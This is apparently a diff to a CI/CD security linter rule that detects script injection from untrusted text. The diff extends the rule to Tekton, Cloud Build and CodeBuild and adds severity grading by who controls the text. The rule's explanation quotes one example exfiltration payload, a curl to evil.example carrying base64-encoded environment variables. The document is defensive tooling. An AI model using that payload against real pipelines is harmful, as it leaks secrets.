@@ -9,6 +9,8 @@ import {
 import { injectionsIn as uploadedWith } from "../../platforms/buildkite/injections.ts";
 import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
 import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
+import { cloudBuildInjections } from "../../platforms/cloud-build/injections.ts";
+import { codebuildInjections } from "../../platforms/codebuild/injections.ts";
 import { injectionsIn as substitutedWith } from "../../platforms/container-steps/injections.ts";
 import { DRONE } from "../../platforms/drone/dialect.ts";
 import type { ChosenText } from "../../platforms/flow/chosen-text.ts";
@@ -20,6 +22,7 @@ import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-eve
 import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
 import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
 import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
+import { type TektonInjection, tektonInjections } from "../../platforms/tekton/injections.ts";
 import { WOODPECKER } from "../../platforms/woodpecker/dialect.ts";
 import { definePolicy } from "../define-policy.ts";
 import { onePerPlace } from "../one-per-place.ts";
@@ -30,8 +33,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -47,7 +50,18 @@ export const secretInInjectableStep = definePolicy({
     practices: ["P5"],
     cwe: [94, 78],
   },
-  platforms: ["azure-pipelines", "buildkite", "circleci", "drone", "github-actions", "gitlab-ci", "woodpecker"],
+  platforms: [
+    "azure-pipelines",
+    "buildkite",
+    "circleci",
+    "cloud-build",
+    "codebuild",
+    "drone",
+    "github-actions",
+    "gitlab-ci",
+    "tekton",
+    "woodpecker",
+  ],
   examples: {
     flag: [
       {
@@ -353,6 +367,11 @@ export const secretInInjectableStep = definePolicy({
     if (model.kind === "woodpecker") return onePerPlace(substitutedWith(WOODPECKER, model, flows).map(matchOfChosen));
     if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
     if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
+    if (model.kind === "cloud-build")
+      return onePerPlace(cloudBuildInjections(model, flows).map((one) => gradedMatch(one)));
+    if (model.kind === "codebuild")
+      return onePerPlace(codebuildInjections(model, flows).map((one) => gradedMatch(one)));
+    if (model.kind === "tekton") return onePerPlace(tektonMatches(tektonInjections(model, flows)));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
     return onePerPlace(
       evaluatedIn(model, flows).map(({ place, name, by, script }) => {
@@ -397,6 +416,40 @@ function azureMatch(flows: PipelineFlows, { name, author, place, script }: Azure
   const full: Severity = author === "project" ? "medium" : "high";
   const message = `The text of ${name} becomes part of the script, and ${CHOOSERS[author]} chooses it.`;
   return { place, severity: secret === undefined ? "low" : full, message, related: related(secret) };
+}
+
+/** Where nothing but a caller chooses the text, it matters only beside a secret, and is told once a script. */
+function tektonMatches(found: readonly TektonInjection[]): PolicyMatch[] {
+  const byCaller = found.filter(
+    ({ author, script }) => author === "caller" && script.secrets.some((one) => !isJobToken(one)),
+  );
+  return [
+    ...found.filter(({ author }) => author !== "caller").map((one) => gradedMatch(one)),
+    ...[...Map.groupBy(byCaller, ({ script }) => script).values()].flatMap(([first, ...others]) =>
+      first === undefined ? [] : [gradedMatch(first, others.slice(0, MOST_RELATED))],
+    ),
+  ];
+}
+
+const MOST_RELATED = 5;
+
+const GRADES_BY_AUTHOR: Readonly<Record<TektonInjection["author"], readonly [beside: Severity, alone: Severity]>> = {
+  outsider: ["high", "medium"],
+  project: ["medium", "low"],
+  caller: ["low", "low"],
+};
+
+/** By who chooses the text, and whether a secret stands beside it; `others` are told with it. */
+function gradedMatch(
+  { name, author, by, place, script }: TektonInjection,
+  others: readonly TektonInjection[] = [],
+): PolicyMatch {
+  const secret = script.secrets.find((one) => !isJobToken(one));
+  const [beside, alone] = GRADES_BY_AUTHOR[author];
+  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
+  const message = `The text of ${name} ${how}, and ${CHOOSERS[author]} chooses it.`;
+  const also = others.map((one) => ({ place: one.place, message: `The text of ${one.name} does, too.` }));
+  return { place, severity: secret === undefined ? alone : beside, message, related: [...related(secret), ...also] };
 }
 
 /** What an injected command could get hold of. */
